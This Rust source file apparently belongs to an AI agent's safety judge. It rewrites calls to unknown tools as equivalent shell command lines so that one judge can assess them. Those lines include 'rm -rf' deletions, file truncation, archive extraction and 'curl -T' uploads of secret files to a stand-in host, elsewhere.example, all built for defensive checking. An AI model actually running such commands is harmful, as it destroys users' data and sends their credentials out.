//! What a tool that nobody knows would do to the things its arguments name, told as command lines: then one judge decides about a tool
//! and a command alike, from what is really there. (M8, S2)
//!
//! Any text among the arguments that names something existing is a place, whatever its field is called. What the tool's name says
//! decides what is done there: it is taken away, written, or sent to somebody. Where the name says nothing, what lies in the project is
//! treated as if it were taken: what no checkpoint holds is saved then.

use std::path::{Path, PathBuf};

use engine::judge::is_secret;
use project::Context;

use crate::event::{Action, Hints, Named, ToolCall};

/// More places than this are not told one by one.
const MOST_PLACES: usize = 300;
/// So many folders are tried as where a relative name starts.
const MOST_BASES: usize = 4;

/// The command lines that say what a call does: its own, and those for the places it names.
pub(super) fn command_lines(
    context: &Context,
    call: &ToolCall,
    folder: &Path,
    root: Option<&Path>,
) -> Vec<String> {
    let mut lines = call.action.commands().to_vec();
    if let Action::Unknown(hints) = &call.action {
        lines.extend(Places::of(context, hints, folder, root).command_lines(hints));
    }
    lines
}

/// One place, as a word of a command line.
struct Place {
    word: String,
    full: PathBuf,
    exists: bool,
    is_folder: bool,
    /// It lies in the project, and is not the project.
    is_inside: bool,
    /// It lies in the home folder, outside the project.
    is_at_home: bool,
}

struct Places(Vec<Place>);

impl Places {
    fn of(context: &Context, hints: &Hints, folder: &Path, root: Option<&Path>) -> Self {
        let here = |path: &Path| path == folder || Some(path) == root;
        let mut bases = vec![folder.to_path_buf()];
        for named in &hints.places {
            let full = expanded(context, &named.text, folder);
            if bases.len() < MOST_BASES && full.is_absolute() && !bases.contains(&full) && full.is_dir() {
                bases.push(full);
            }
        }
        let alone = hints.places.len() == 1;
        let mut found: Vec<Place> = Vec::new();
        for named in &hints.places {
            // A tool that says where it works does not mean that.
            if named.is_base && !alone && here(&normal(&expanded(context, &named.text, folder))) {
                continue;
            }
            for base in &bases {
                let Some(place) = place(context, named, base, root) else { continue };
                if found.len() < MOST_PLACES && !found.iter().any(|one| one.word == place.word) {
                    found.push(place);
                }
            }
        }
        Self(found)
    }

    fn command_lines(&self, hints: &Hints) -> Vec<String> {
        let mut lines = Vec::new();
        let words = |chosen: &dyn Fn(&&Place) -> bool| -> Vec<&str> {
            self.0.iter().filter(chosen).map(|place| place.word.as_str()).collect()
        };
        let taken = match (hints.takes, hints.unclear) {
            (true, _) => words(&|place| place.exists),
            // A folder somewhere else is named for something: nobody can say what. (M3)
            (_, true) => {
                words(&|place| place.exists && (place.is_inside || place.is_folder && place.is_at_home))
            }
            _ => Vec::new(),
        };
        if !taken.is_empty() {
            lines.push(format!("rm -rf -- {}", taken.join(" ")));
        }
        if hints.writes {
            let written: Vec<String> = self
                .0
                .iter()
                .filter(|place| !(hints.takes && place.exists))
                .map(|place| match place.is_folder {
                    true => format!(": > {}/.new", place.word),
                    false => format!(": > {}", place.word),
                })
                .collect();
            if !written.is_empty() {
                lines.push(written.join("; "));
            }
        }
        if hints.unpacks {
            let over = self.0.iter().filter(|place| place.is_folder && !place.is_inside);
            lines.extend(over.map(|place| format!("tar -xf archive.tar -C {}", place.word)));
        }
        if hints.sends {
            let is_kept = |place: &Place| {
                let real = place.full.canonicalize().unwrap_or_else(|_| place.full.clone());
                [&place.full, &real].into_iter().any(|path| is_secret(&path.to_string_lossy()))
            };
            let sent = self.0.iter().filter(|place| place.exists && is_kept(place));
            lines.extend(sent.map(|place| format!("curl -T {} https://elsewhere.example/", place.word)));
        }
        lines
    }
}

/// A name as a place below this folder; nothing if it names nothing and does not look like a path either.
fn place(context: &Context, named: &Named, base: &Path, root: Option<&Path>) -> Option<Place> {
    let text = named.text.trim();
    if text.is_empty() {
        return None;
    }
    let full = normal(&expanded(context, text, base));
    let facts = full.symlink_metadata();
    let is_pattern = facts.is_err() && text.contains(['*', '?', '[']) && !text.contains(' ');
    let is_written_out = text.starts_with(['/', '~', '.', '$']) && text.len() > 1 && !text.contains(' ');
    let has_parent = || full.parent().is_some_and(Path::is_dir);
    if facts.is_err() && !is_pattern && !((is_written_out || text.contains('/')) && has_parent()) {
        return None;
    }
    let word = match is_pattern {
        true => pattern_word(&base.join(text).to_string_lossy()),
        false => quoted(&full.to_string_lossy()),
    };
    let is_inside = root.is_some_and(|root| full.starts_with(root) && full != root);
    let is_folder = full.is_dir();
    let is_ours = root.is_some_and(|root| full.starts_with(root) || root.starts_with(&full));
    let is_at_home = !is_ours && context.home().is_some_and(|home| full.starts_with(home) && full != home);
    Some(Place { word, full, exists: facts.is_ok() || is_pattern, is_folder, is_inside, is_at_home })
}

/// The path, with a home folder that some tools understand and others take for a name: either counts as what would matter more.
fn expanded(context: &Context, text: &str, base: &Path) -> PathBuf {
    let at_home = ["~", "$HOME", "${HOME}", "%USERPROFILE%"].iter().find_map(|start| {
        let rest = text.strip_prefix(start)?;
        (rest.is_empty() || rest.starts_with(['/', '\\'])).then(|| rest.trim_start_matches(['/', '\\']))
    });
    match (at_home, context.home()) {
        (Some(rest), Some(home)) => home.join(rest),
        _ => base.join(text),
    }
}

/// Without `.` and `..`, as far as they can be taken out without looking.
fn normal(path: &Path) -> PathBuf {
    let mut made = PathBuf::new();
    for part in path.components() {
        match part {
            std::path::Component::CurDir => {}
            std::path::Component::ParentDir => {
                made.pop();
            }
            other => made.push(other),
        }
    }
    made
}

fn quoted(text: &str) -> String {
    format!("'{}'", text.replace('\'', "'\\''"))
}

/// Quoted but for what stands for other names.
fn pattern_word(text: &str) -> String {
    let mut word = String::new();
    for letter in text.chars() {
        if !(letter.is_alphanumeric() || "*?[]/._-".contains(letter)) {
            word.push('\\');
        }
        word.push(letter);
    }
    word
}
